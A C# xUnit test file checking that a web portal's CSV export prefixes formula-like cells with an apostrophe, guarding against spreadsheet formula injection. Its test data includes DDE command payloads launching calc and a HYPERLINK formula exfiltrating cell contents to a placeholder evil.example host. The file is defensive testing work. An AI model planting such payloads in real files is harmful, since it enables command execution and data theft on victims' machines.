using System.Text;
using AdvocacyPortal.Web.Ui;

namespace AdvocacyPortal.Web.Tests.Ui;

public sealed class CsvTextTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+1+1")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("=         cmd|'/c calc.exe'!A")]
    [InlineData("   =1+1")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("\u00A0=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＠SUM(1)")]
    [InlineData("–1+1")]
    [InlineData("%0A=1+1")]
    [InlineData("|calc")]
    [InlineData("\u0000=1+1")]
    public void A_cell_that_would_run_begins_with_an_apostrophe(string typed) =>
        Assert.Equal("'" + typed, Assert.Single(Read(CsvText.Row([typed]))));

    [Theory]
    [InlineData("-5")]
    [InlineData("+49")]
    [InlineData("-0.75")]
    [InlineData("Customers wait = too long")]
    [InlineData("a@b.example")]
    [InlineData("1,5; 2\t3")]
    [InlineData("He said \"no\"")]
    [InlineData("Ärger\nim Laden")]
    [InlineData("'quoted'")]
    [InlineData(" padded ")]
    public void Everything_else_comes_back_as_it_was(string typed) =>
        Assert.Equal(typed, Assert.Single(Read(CsvText.Row([typed]))));

    [Fact]
    public void Numbers_days_and_instants_stay_what_they_are() =>
        Assert.Equal(
            "-3,-1.5,2026-03-02,2026-03-02 10:30,\r\n",
            CsvText.Row([-3, -1.5m, new DateOnly(2026, 3, 2), new DateTimeOffset(2026, 3, 2, 10, 30, 9, TimeSpan.FromHours(1)), null]));

    [Fact]
    public void A_trick_cannot_begin_another_cell()
    {
        var cells = Read(CsvText.Row(["innocent\",=1+1,\"", "x\r\n=1+1", "a;=1+1"]));

        Assert.Equal(["innocent\",=1+1,\"", "x\r\n=1+1", "a;=1+1"], cells);
    }

    /// <summary>One row as RFC 4180 has it: commas part cells, quotes hold everything, a doubled quote is one.</summary>
    private static List<string> Read(string row)
    {
        Assert.EndsWith("\r\n", row, StringComparison.Ordinal);
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var at = 0; at < row.Length - 2; at++)
        {
            if (row[at] == '"' && quoted && row[at + 1] == '"')
            {
                cell.Append(row[at++]);
            }
            else if (row[at] == '"')
            {
                quoted = !quoted;
            }
            else if (row[at] == ',' && !quoted)
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else
            {
                cell.Append(row[at]);
            }
        }

        Assert.False(quoted);
        cells.Add(cell.ToString());
        return cells;
    }
}
